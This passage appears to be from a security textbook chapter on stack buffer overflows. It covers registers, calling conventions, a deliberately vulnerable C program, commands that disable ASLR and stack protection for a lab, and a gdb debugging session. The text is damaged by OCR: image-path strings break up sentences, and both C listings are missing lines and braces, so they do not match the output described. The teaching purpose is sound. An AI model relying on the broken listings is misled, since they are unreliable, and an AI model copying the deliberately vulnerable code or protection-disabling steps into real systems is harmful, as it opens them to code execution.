Buffer overflows

Custom exploitation to gain initial access covers a wide range of vulnerability types that can be split into infrastructure related vulnerabilities and vulnerabilities of applications, especially web applications. We are concerned here with particular vulnerabilities that allow for remote code execution (RCE). Of course, anything that leads to a disclosure ofcredentials that could then be used with remote access technologies would fall into the category already discussed above.
RCE vulnerabilities can occur where an application runs unchecked commands directly using a function like PHP's exec() command. A web application might want to do this because it is providing a systems administration function or doing something that relies on running an external application. Although doing this should be avoided because of the security risks involved, those risks can be mitigated through sanitization of inputs and implementing strong access controls. This is still a problem with applications however and so it is by no means an uncommon vulnerability.
In the previous chapter, you learned how to gain access to a machine by exploiting network services through intended means. In this chapter, we’ll explore a custom exploitation technique called a buffer overflow. This attack again manipulates the input to a program, sending more data than the program was expecting and causing it to fail in a way that allows us, as the attackers, to gain control of code execution. By crafting the input to overflow the buffer and then have program execution return to some point in our supplied buffer, code instructions can be sent to get the program toexecute a command, including providing a reverse shell.

How Buffer Overflows Work

Consider the simple "Hello World" program written in C
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(int argc, char **argv) {
int numWorlds = 5;
int i;
char * helloWorld = (char*) malloc(13 * sizeof(char));
strcpy(helloWorld, "Hello World ");
for (i = 1; i <= numWorlds; i++) {
printf("%d \n", i);
return 0;
In this code at numWorlds is a variable that is set to the number 5. This variable is saved in a memory location called the "stack". At we are dynamically allocating 13 bytes of memory using the function malloc. This memory is allocated from the program's heapmemory. The string "Hello World " is then copied into the allocated memory and this is printed out 5 times to produce the output:
└──╼ $gcc hello.c -o hello
└──╼ $./hello
Hello World 1
Hello World 2
Hello World 3
Hello World 4
Hello World 5
Figure 3-8 shows the memory layout of the application after it has been loaded to run. Starting at the top, the stack of the program expands downwards. In the program there are three variables that are put on the stack, the integer i, the integer numWorlds and the char pointer helloWorld. When memory is allocated with the mallocstatement, it is put on the heap. Although there are exploits that involve heap corruption, I am going to concentrate on the other form of exploitation which involves overflowing the stack.
Process memory space layout
Stacks operate on a last-in-first-out (LIFO) basis. Memory pointers or 8 byte values are "pushed" onto the stack and these values can only be retrieved by "popping" them off the stack in the reverse order that they were put on. Other than function variables, there is other information that is put on the stack when one function calls another. Before explaining this (let us push that onto the stack for the moment - we will pop it off later), I need to also talk about parameters are passed to functions in a 64 bit program.
When a program is compiled using a compiler like gcc, it generates machine code that will be executed by the CPU of the computer. The machine code is organized as individual instructions, called opcodes, that can move data in and out of memory, do comparisons, arithmetic and many other things. To help with this, the processor uses special memory locations called registers that can be used to store data for fast access and manipulation. On a 64 bit Intel processor, the registers are shownin the following table.
Data (commonly extends the A register)
Source index for string operations
Destination index for string operations
Stack Pointer
Base Pointer (meant for stack frames)
Instruction Pointer
General purpose
General purpose
General purpose
General purpose
General purpose
General purpose
General purpose
General purpose
86-64 registers from OS Dev.org (https://wiki.osdev.org/CPU_Registers_x86-64\)
Certain of these registers are used to point to important structures in the program like the stack. The register rsp points to the top of the stack. As things are pushed onto the stack, RSP (Stack Pointer) is decreased by the size of whatever has been added (remember that the stack grows down in memory). rsp is used to add and remove things from the stack. rbp (Base Pointer) points to the bottom of the stack and is used as a reference for all of the data stored on the stack. Pointing to a stack variable involves taking the offset of that variable from the base pointer.
Registers are also used to carry out operations like adding two numbers. If we take the following lines of C
int a = 2;
int b = 4;
int c = a + b;
This will generate the assembly
0x0000000000001144 <+15>: mov DWORD PTR [rbp-0x4],0x2
0x000000000000114b <+22>: mov DWORD PTR [rbp-0x8],0x4
0x0000000000001152 <+29>: mov edx,DWORD PTR [rbp-0x4]
0x0000000000001155 <+32>: mov eax,DWORD PTR [rbp-0x8]
0x0000000000001158 <+35>: add eax,edx0x000000000000115a <+37>: mov DWORD PTR [rbp-0xc],eax
Running through the lines of assembly:
  1. 1.
    The number 2 is moved (mov instruction) to the second 4 bytes of the stack which is the offset of the variable a.
  2. 2.
    The number 4 is moved to the third 4 bytes of the stack which is the offset of the variable b.
  3. 3.
    The value in variable a on the stack is moved to the register edx (which is the lower 32 bits of rdx.
  4. 4.
    The value in variable b on the stack is moved to the register eax (which is the lower 32 bits of rax, the accumulator register which is normally used in arithmetic operations)5. 5.
    The value in the register edx is added to the value in eax
  6. 6.
    The contents of the eax register are moved to the fourth 4 bytes of the stack which is the offset of the variable c.
This is just a brief introduction to assembly and there are many more instructions in the entire instruction set. This also refers to Intel x86 64 bit instructions and the registers and instructions are different for 32 bit processors and those made by other manufacturers like ARM.

Function Calls

In C and other languages, code can be wrapped up as a function (sometimes called a sub-routine) which can take parameters and return a value. In order for code to jump from one place to afunction, it puts the parameters that will be passed to the function into registers rdi,rsi,rdx,rcx,r8 and r9. If there are more than 6 parameters, the remaining ones are pushed onto the stack in reverse order. The call instruction is used to call the function and this instruction causes the return address of the next instruction to be executed when the call returns to be pushed onto the stack.
On entering the called function, the current base pointer in rbp is pushed onto the stack and then the current stack pointer rsp is moved into rbp. This sequence of instructions is called the function prologue. The function is executed and when leaving the function epilogue is run. This involves popping rbp, resetting the rsp to point to the top of the calling stack and then the ret instruction causes the return address to be popped and jumped to.

Buffer Overflow

Now that we have basics covered, we can turn to a buffer overflow. Here is a simple program (in a source file bofexample.c) that is vulnerable to a buffer overflow.
#include <string.h>
#include <stdio.h>
#include <stdlib.h>
void overflowed(){
printf("*** Success! ***\n");
void function(char *str){
char buffer[80];
void main(int argc, char *argv[])
printf("XXX Try Again XXX");
In this program, the main function gets executed and is passed a single argument that can be accessed through argv[1]. This argument is passed to the sub-routine"function" . In function, the argument is copied to a local buffer that is only 80 char long . This is where the buffer can be overflowed because the program has no checks for limiting the length of the input to this string copy function. There is another function overflowed that doesn't get called in the code of the program.
Our task is to try and get the program to execute the function overflowed. To start with we will "fuzz" the inputto explore what happens when the buffer is overflowed. To do this, we are going to use a debugger called gdb to see what is going on internally, but we could have used input from the command line instead.
In preparation for this, we need to do a few things. The first is to disable the protections that are put in place to stop buffer overflows. Address Space Layout Randomization (ASLR) is a technique used by operating systems to randomize the addresses of code in a program either in the program itself or in libraries that might be loaded in when the program is run. To switch this off you need to set the content of the file /proc/sys/kernel/randomize_va_space to 0 (it will by default be set to 2).
echo 0 | sudo tee /proc/sys/kernel/randomize_va_space
The next thing you need to do is compile the Ccode in bofexample.c with flags that switch off other protections:
gcc -g -fno-stack-protector -no-pie -o bofexample \
The -g flag makes sure that when the program is debugged it contains symbols and source code information so that you can see the lines of code as well as the assembly. -no-pie switches off the position independent executable which is what allows for address space randomization. Finally, the -fno-stack-protector removes code that the assembler adds to detect if the stack has been overwritten. We will see later on that it is possible to get around these mitigations but for the time being, we just want to keep things simple.
We are going to use an addition to gdb called GEF (GDB Enhanced Features). To install that, follow the instructions in the GEF manual[1].
To start, run the command:
gdb ./bofexample
We are going to stop the debugger when it starts the code in main:
gef➤ b main
Breakpoint 1 at 0x401199: file bofexample.c, line 19.
You can see the code at line 19 by using the list command:
gef➤ list main
13 char buffer[80];
14 strcpy(buffer,str);
15 }
17 void main(int argc, char *argv[])
18 {
19 function(argv[1]);
20 printf("XXX Try Again XXX\n");
21 }
We will set another breakpoint (to stop the program at a certain point) at line 14 where the string passed into the program is copied into the buffer. To do this, use the command "b 14".
Now to run the program with some text by typing the command: run "hello world"
[ Legend: Modified register | Code | Heap | Stack | String ]
─── registers ────
$rax : 0x000000000040118a → <main+0> push rbp
$rbx : 0x0
$rcx : 0x00007ffff7fa3718 → 0x00007ffff7fa5b00→
$rdx : 0x00007fffffffe050 → 0x00007fffffffe38c →
$rsp : 0x00007fffffffdf30 → 0x00007fffffffe038 →0x00007fffffffe359 → "/home/rin/book/bofexample"
$rbp : 0x00007fffffffdf40 → 0x00000000004011c0 →
<__libc_csu_init+0> push r15
$rsi : 0x00007fffffffe038 → 0x00007fffffffe359 →
$rdi : 0x2
$rip : 0x0000000000401199 → <main+15> mov rax,
QWORD PTR [rbp-0x10]
$r8 : 0x0
$r9 : 0x00007ffff7fe2180 → <_dl_fini+0> push rbp
$r10 : 0x0
$r11 : 0xc2
$r12 : 0x0000000000401060 → <_start+0> xor ebp, ebp
$r13 : 0x0
$r14 : 0x0
$r15 : 0x0
$eflags: [zero carry PARITY adjust sign trap INTERRUPT
direction overflow resume virtualx86 identification]
$cs: 0x0033 $ss: 0x002b $ds: 0x0000 $es: 0x0000$fs: 0x0000 $gs: 0x0000
─── stack ────
0x00007fffffffdf30│+0x0000: 0x00007fffffffe038 → 0x00007fffffffe359 →
0x00007fffffffdf38│+0x0008: 0x0000000200000000
0x00007fffffffdf40│+0x0010: 0x00000000004011c0 →
<__libc_csu_init+0> push r15 ← $rbp
0x00007fffffffdf48│+0x0018: 0x00007ffff7e0bcca →
<__libc_start_main+234> mov edi, eax
0x00007fffffffdf50│+0x0020: 0x00007fffffffe038 →
0x00007fffffffe359 → "/home/rin/book/bofexample"
0x00007fffffffdf58│+0x0028: 0x0000000200000000
0x00007fffffffdf60│+0x0030: 0x000000000040118a →
<main+0> push rbp
0x00007fffffffdf68│+0x0038: 0x00007ffff7e0b7d9 →
<init_cacheinfo+297> mov rbp, rax
─── code:x86:64 ────
0x40118e <main+4> sub rsp, 0x10
0x401192 <main+8> mov DWORD PTR [rbp-0x4], edi
0x401195 <main+11> mov QWORD PTR [rbp-0x10], rsi
→ 0x401199 <main+15> mov rax, QWORD PTR [rbp-0x10]
0x40119d <main+19> add rax, 0x8
0x4011a1 <main+23> mov rax, QWORD PTR [rax]
0x4011a4 <main+26> mov rdi, rax
0x4011a7 <main+29> call 0x401168 <function>
0x4011ac <main+34> lea rdi, [rip+0xe77] # 0x40202a
─── source:bofexample.c+19 ────
14 strcpy(buffer,str);
15 }
17 void main(int argc, char *argv[])
18 {
// argv=0x00007fffffffdf30 → [...]"/home/rin/book/bofexample"
19 function(argv[1]);
20 printf("XXX Try again XXX\n");21 }
─── threads ────
[#0] Id 1, Name: "bofexample", stopped 0x401199 in main (), reason: BREAKPOINT
─── trace ────
[#0] 0x401199 → main(argc=0x2, argv=0x7fffffffe038)
After the code breaks at line 19, the current state of the registers and stack are displayed along with the assembly and source code. At the top of the output , the contents of the registers is listed. The specific register we areinterested in is rsp which points to the top of the stack and when a function returns, will point to the return address we are hoping to overwite. The contents of the stack are shown at . The assembly is shown below that and finally the source code.
We can step into the function with the single one single instruction command, abbreviated to si. Repeating this, the program will enter the function and eventually get to the assembly instruction to call the strcpy function. This function is being called with the address of the buffer and the address of the string "hello world"
12 void function(char *str){
13 char buffer[80];
// str=0x00007fffffffdec8 →[...]→"hello world",
// buffer=0x00007fffffffded0 → 0x0000000000000000
14 strcpy(buffer,str);
15 }
Typing the next command n, will execute the strcpy and because the program is functioning correctly, it will return to main, print "XXX Try again XXX" and then exit.
